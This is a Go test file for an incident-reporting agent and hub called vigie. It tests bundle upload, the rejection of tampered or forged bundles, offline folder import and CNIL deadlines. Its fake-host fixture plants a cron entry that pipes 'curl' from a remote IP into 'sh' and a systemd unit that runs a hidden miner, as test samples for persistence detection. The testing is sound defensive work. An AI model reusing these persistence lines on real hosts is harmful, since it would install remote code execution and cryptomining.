package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vigie-cyber/vigie/agent"
	"github.com/vigie-cyber/vigie/checks"
	"github.com/vigie-cyber/vigie/checks/checkstest"
	"github.com/vigie-cyber/vigie/hub/api"
	"github.com/vigie-cyber/vigie/hub/app"
	"github.com/vigie-cyber/vigie/hub/hubkeys"
	"github.com/vigie-cyber/vigie/hub/store"
	"github.com/vigie-cyber/vigie/protocol"
)

// realHub is the hub's real API (hub/api over hub/app and a SQLite store)
// on an httptest TLS server, with its own keys.
type realHub struct {
	srv  *httptest.Server
	st   store.Store
	x    *app.Incidents
	dir  string
	keys *hubkeys.Keys
}

func newRealHub(t *testing.T) *realHub {
	t.Helper()
	dir := t.TempDir()
	st, err := store.Open(context.Background(), filepath.Join(dir, "hub.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	keys, err := hubkeys.Generate()
	if err != nil {
		t.Fatal(err)
	}
	h := &realHub{st: st, keys: keys, dir: filepath.Join(dir, app.IncidentDir)}
	if h.x, err = app.NewIncidents(app.IncidentConfig{Store: st, Dir: h.dir, Keys: keys}); err != nil {
		t.Fatal(err)
	}
	var handler http.Handler
	h.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { handler.ServeHTTP(w, r) }))
	h.srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	h.srv.StartTLS()
	t.Cleanup(h.srv.Close)
	handler = api.New(api.Config{Store: st, SPKI: agent.SPKIFingerprint(h.srv.Certificate()), HubKeys: keys.Public(), Incidents: h.x}).Handler()
	return h
}

// enrol enrols a real agent state folder with the hub for entity.
func (h *realHub) enrol(t *testing.T, entity, sector string) string {
	t.Helper()
	tok, err := app.New(app.Config{Store: h.st}).CreateToken(context.Background(), entity, sector, time.Hour, "test")
	if err != nil {
		t.Fatal(err)
	}
	state := t.TempDir()
	if _, err := agent.Enroll(context.Background(), agent.EnrollOptions{HubURL: h.srv.URL, Token: tok, Fingerprint: agent.SPKIFingerprint(h.srv.Certificate()),
		StateDir: state, Host: protocol.HostInfo{Hostname: "ch-pc1", OS: "linux"}}); err != nil {
		t.Fatal(err)
	}
	return state
}

// plantedHost is the fake host with a planted persistence: a cron entry
// and a systemd unit changed two days before the declaration, an old unit.
func plantedHost(t *testing.T) {
	old, oldNow := incidentHost, incidentNow
	incidentHost = func() *checks.Host {
		h := checkstest.Host()
		recent, long := checkstest.Clock.Add(-48*time.Hour), checkstest.Clock.AddDate(0, -6, 0)
		h.FS = fstest.MapFS{
			"etc/crontab":                            {Data: []byte("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"), ModTime: long},
			"etc/cron.d/sysupdate":                   {Data: []byte("*/5 * * * * root curl -s http://203.0.113.9/x | sh\n"), ModTime: recent},
			"etc/systemd/system/ssh.service":         {Data: []byte("[Service]\nExecStart=/usr/sbin/sshd\n"), ModTime: long},
			"etc/systemd/system/dbus-helper.service": {Data: []byte("[Service]\nExecStart=/tmp/.x/miner\n"), ModTime: recent},
		}
		return h
	}
	incidentNow = func() time.Time { return checkstest.Clock }
	t.Cleanup(func() { incidentHost, incidentNow = old, oldNow })
}

// TestIncidentOnlineToRealHub: the real `vigie incident` on an enrolled
// host sends its bundle to the real hub API, which files it for the
// entity, keeps it encrypted, and shows the planted cron entry and
// systemd unit as recent; the copy stays on the host.
func TestIncidentOnlineToRealHub(t *testing.T) {
	plantedHost(t)
	h := newRealHub(t)
	state := h.enrol(t, "CH de Morlaix", "hospital")
	var stdout, stderr bytes.Buffer
	code := run([]string{"incident", "--non-interactive", "--kind", "ransomware", "--aware-at", "2026-11-30T08:15:00+01:00",
		"--contact", "M. Y, 02 98 00 00 00", "--summary", "rançon affichée", "--state-dir", state}, &stdout, &stderr)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if !strings.Contains(stdout.String(), "Le hub a reçu l'incident n°1 (CH de Morlaix)") {
		t.Fatalf("no receipt:\nstdout %s\nstderr %s", stdout.String(), stderr.String())
	}
	outputs(t, filepath.Join(state, "incidents")) // the copy stays
	ctx := context.Background()
	list, err := h.st.ListIncidents(ctx, store.IncidentFilter{})
	if err != nil || len(list) != 1 {
		t.Fatalf("hub incidents: %+v %v", list, err)
	}
	in := list[0]
	if in.Entity != "CH de Morlaix" || in.Kind != "ransomware" || in.Source != "upload" || !in.AwareAt.Equal(time.Date(2026, 11, 30, 7, 15, 0, 0, time.UTC)) {
		t.Errorf("incident %+v", in)
	}
	v, err := h.x.Incident(ctx, in.ID, "conseil@region.fr")
	if err != nil || v.Contents == nil {
		t.Fatalf("view: %v %+v", err, v)
	}
	recent := map[string]bool{}
	for _, p := range v.Contents.Persistence {
		recent[p.Location] = p.Recent
	}
	if !recent["/etc/cron.d/sysupdate"] || !recent["/etc/systemd/system/dbus-helper.service"] || recent["/etc/systemd/system/ssh.service"] {
		t.Errorf("persistence as the hub shows it: %v", recent)
	}
	if v.Manifest.Answers.Summary != "rançon affichée" || len(v.Clock.Deadlines) != 3 {
		t.Errorf("answers %+v, deadlines %d", v.Manifest.Answers, len(v.Clock.Deadlines))
	}
}

// TestIncidentRefusedByRealHub: a bundle whose archive was altered, or
// whose manifest another key signed, is refused by the real hub with its
// reason; nothing is stored; the agent says where the bundle stays and how
// to hand it over, and exits 0 (the bundle is safe on disk).
func TestIncidentRefusedByRealHub(t *testing.T) {
	plantedHost(t)
	h := newRealHub(t)
	state := h.enrol(t, "Port de Brest", "port")
	out := t.TempDir()
	var stdout, stderr bytes.Buffer
	if code := run([]string{"incident", "--non-interactive", "--kind", "compromise", "--offline-out", out, "--state-dir", state}, &stdout, &stderr); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	ap, mp := outputs(t, out)
	manifest, _ := os.ReadFile(mp)
	archive, _ := os.ReadFile(ap)
	st, err := agent.LoadState(state)
	if err != nil {
		t.Fatal(err)
	}
	// Tampered: one byte of the archive changed.
	bad := bytes.Clone(archive)
	bad[len(bad)/2] ^= 0x40
	os.WriteFile(ap, bad, 0o600)
	if _, err := uploadIncident(context.Background(), st, manifest, ap); err == nil || !strings.Contains(err.Error(), protocol.CodeIncidentMismatch) {
		t.Errorf("tampered archive: %v", err)
	}
	os.WriteFile(ap, archive, 0o600)
	// Signed by another key, naming this agent.
	other, _ := protocol.GenerateKey()
	env, _ := protocol.ParseEnvelope(manifest)
	payload, _ := protocol.OpenUnverified(env, protocol.IncidentPayloadType)
	forged := protocol.Sign(protocol.IncidentPayloadType, payload, other)
	forged.Signatures[0].KeyID = st.AgentID
	fb, _ := json.Marshal(forged)
	if _, err := uploadIncident(context.Background(), st, fb, ap); err == nil || !strings.Contains(err.Error(), protocol.CodeBadSignature) {
		t.Errorf("forged manifest: %v", err)
	}
	if list, _ := h.st.ListIncidents(context.Background(), store.IncidentFilter{}); len(list) != 0 {
		t.Errorf("refused bundles stored: %+v", list)
	}
	if ents, _ := os.ReadDir(h.dir); len(ents) != 0 {
		t.Errorf("refused archives left at the hub: %v", ents)
	}
	// The genuine one goes through.
	reply, err := uploadIncident(context.Background(), st, manifest, ap)
	if err != nil || reply.Status != protocol.IngestStored {
		t.Fatalf("genuine bundle: %+v %v", reply, err)
	}
	// A revoked agent's bundle is refused as its scorecards are; the
	// command says where the bundle stays.
	if err := h.st.RevokeAgent(context.Background(), st.AgentID, "admin", time.Now()); err != nil {
		t.Fatal(err)
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"incident", "--non-interactive", "--kind", "fraud", "--state-dir", state}, &stdout, &stderr); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if e := stderr.String(); !strings.Contains(e, "Lot non envoyé au hub") || !strings.Contains(e, protocol.CodeAgentRevoked) || !strings.Contains(e, filepath.Join(state, "incidents")) {
		t.Errorf("revoked agent's message:\n%s", e)
	}
}

// TestIncidentThroughFolderImport: the isolated host writes its bundle
// with --offline-out; the hub's folder import (what « vigie-hub import »
// runs) files it through the same ingestion; the same folder again finds
// it; an archive whose manifest is missing is refused.
func TestIncidentThroughFolderImport(t *testing.T) {
	plantedHost(t)
	h := newRealHub(t)
	state := h.enrol(t, "Mairie de Brest", "commune")
	stick := t.TempDir()
	var stdout, stderr bytes.Buffer
	if code := run([]string{"incident", "--non-interactive", "--kind", "mailbox", "--offline-out", stick, "--state-dir", state}, &stdout, &stderr); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if strings.Contains(stdout.String(), "Envoi du lot") {
		t.Error("--offline-out sent the bundle anyway")
	}
	os.WriteFile(filepath.Join(stick, "incident-orphan.tar.age"), []byte("age-encryption.org/v1\n"), 0o600)
	var reports []api.FileReport
	imp := func() api.OfflineSummary {
		reports = nil
		sum, err := api.ImportOffline(context.Background(), h.st, api.OfflineConfig{Keys: h.keys, Incidents: h.x, By: "cli",
			Report: func(r api.FileReport) { reports = append(reports, r) }}, stick)
		if err != nil {
			t.Fatal(err)
		}
		return sum
	}
	if sum := imp(); sum.Stored != 1 || sum.Refused != 1 {
		t.Fatalf("first import: %+v %+v", sum, reports)
	}
	if sum := imp(); sum.Duplicates != 1 || sum.Stored != 0 {
		t.Fatalf("second import: %+v %+v", sum, reports)
	}
	list, _ := h.st.ListIncidents(context.Background(), store.IncidentFilter{})
	if len(list) != 1 || list[0].Source != "import" || list[0].Entity != "Mairie de Brest" || list[0].Kind != "mailbox" {
		t.Fatalf("imported incidents %+v", list)
	}
}

// TestIncidentInteractivePersonalDataStartsCNILClock: asked in French
// whether personal data may be affected, the town hall answers oui; the
// real hub files the incident as a personal-data breach and its clock
// shows the CNIL's 72 hours from when the entity became aware.
func TestIncidentInteractivePersonalDataStartsCNILClock(t *testing.T) {
	plantedHost(t)
	h := newRealHub(t)
	state := h.enrol(t, "Mairie de Brest", "commune")
	old := stdin
	stdin = strings.NewReader("1\n2026-11-22 18:30\nle serveur de fichiers\noui\nnote de rançon\nMme X 0600\nfichiers de l'état civil chiffrés\n")
	t.Cleanup(func() { stdin = old })
	var stdout, stderr bytes.Buffer
	if code := run([]string{"incident", "--state-dir", state}, &stdout, &stderr); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if s := stdout.String(); !strings.Contains(s, "Des données personnelles ont-elles pu être touchées") || !strings.Contains(s, "CNIL dans les 72 heures") {
		t.Errorf("French personal-data question or note missing:\n%s", s)
	}
	ctx := context.Background()
	list, err := h.st.ListIncidents(ctx, store.IncidentFilter{})
	if err != nil || len(list) != 1 || !list[0].PersonalData {
		t.Fatalf("hub incidents: %+v %v", list, err)
	}
	v, err := h.x.Incident(ctx, list[0].ID, "conseil@region.fr")
	if err != nil {
		t.Fatal(err)
	}
	aware := time.Date(2026, 11, 22, 18, 30, 0, 0, checkstest.Clock.Location()) // the answers are read in the clock's zone
	var cnil bool
	for _, d := range v.Clock.Deadlines {
		if d.Kind == "gdpr-cnil" {
			cnil = d.Due.Equal(aware.Add(72 * time.Hour))
		}
	}
	if !cnil || v.Manifest.Answers.Summary != "fichiers de l'état civil chiffrés" {
		t.Errorf("CNIL deadline from %v not on the clock: %+v", aware, v.Clock.Deadlines)
	}
}
